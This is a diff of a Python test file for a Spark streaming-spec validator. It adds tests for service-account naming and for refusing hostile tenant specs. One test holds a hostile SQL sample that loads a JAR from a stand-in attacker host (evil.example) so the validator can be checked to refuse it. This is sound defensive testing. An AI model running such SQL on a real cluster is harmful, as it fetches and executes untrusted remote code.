@@ -64,7 +64,8 @@ def test_hostile_spec_is_refused_by_the_spec_rules_with_or_without_a_policy(case
 
 def test_the_hostile_corpus_covers_every_class_of_the_second_pass():
     cases = [*REFUSED_BY_POLICY, *REFUSED_BY_RULES, *REFUSED_BY_LIMITS]
-    classes = {"sql function", "statement", "relation", "text", "path", "uri", "kafka", "caps", "secret", "secret key", "conf"}
+    classes = {"sql function", "statement", "relation", "text", "path", "uri", "kafka", "caps", "secret", "secret key",
+               "conf", "endpoint"}
     second = [c for c in cases if c.split(":")[0] in classes]
     assert {c.split(":")[0] for c in second} == classes
     assert len(second) >= 40, len(second)
@@ -327,6 +328,48 @@ def test_cli_refuses_every_hostile_spec_with_the_default_policy(tmp_path, case):
     assert code == ExitCode.INVALID_SPEC, lines
     if case not in ("the operator's account in its namespace",):  # the CLI's namespace is team-a, not the operator's
         assert any(line.strip().startswith(named) for line in lines), lines
+
+
+@pytest.mark.parametrize(("values", "release", "operator_account"), [
+    ({}, "streamq", "streamq-operator"),
+    ({}, "platform", "platform-streamq-operator"),
+    ({}, "my-streamq", "my-streamq-operator"),
+    ({"fullnameOverride": "sq"}, "platform", "sq-operator"),
+    ({"nameOverride": "queries"}, "platform", "platform-queries-operator"),
+    ({"serviceAccount": {"name": "ops"}}, "platform", "ops"),
+])  # fmt: skip
+def test_the_operators_account_is_named_as_the_chart_names_it(values, release, operator_account):
+    assert from_values(values, release)[1].operator_service_account == operator_account
+
+
+def test_cli_and_operator_agree_on_the_operators_account_whatever_the_release(tmp_path):
+    """The chart names the account <release>-streamq-operator; --release tells the CLI."""
+    spec = changed(BASE, {"runtime.serviceAccountName": "platform-streamq-operator"})
+    values = tmp_path / "values.yaml"
+    values.write_text(yaml.safe_dump({"policy": {"allowedServiceAccounts": ["*"]}}))
+    code, lines = _validate(tmp_path, spec, "--policy", str(values), "--release", "platform")
+    assert code == ExitCode.INVALID_SPEC and any("policy.operatorServiceAccount" in line for line in lines), lines
+    assert _validate(tmp_path, spec, "--policy", str(values))[0] == 0  # under release "streamq" it is any account
+
+
+def test_validate_spark_never_analyses_a_spec_the_policy_refuses(tmp_path, monkeypatch):
+    """A CI job that validates a tenant's spec must not run the tenant's SQL: Spark is only
+    started for specs that pass the rules and the policy."""
+    import app.pipeline.session as session
+
+    def no_jvm(*_, **__):
+        raise AssertionError("a JVM was started for a refused spec")
+
+    monkeypatch.setattr(session, "get_session", no_jvm)
+    spec = changed(BASE, {"transforms": [{"sql": "CREATE TEMPORARY FUNCTION f AS 'E' USING JAR 'https://evil.example/x.jar'"}]})
+    code, lines = _validate(tmp_path, spec, "--spark")
+    assert code == ExitCode.INVALID_SPEC, lines
+
+
+@pytest.mark.parametrize("mode", ["continuous", "realTime", "microBatch", "availableNow"])
+def test_the_fraud_filter_keeps_the_default_policy_in_every_mode(mode):
+    spec = query_spec(mode=mode, **({"outputMode": "update"} if mode == "realTime" else {}))
+    assert problems_of(spec) == []
 
 
 def test_cli_applies_the_policy_of_a_values_file(tmp_path):
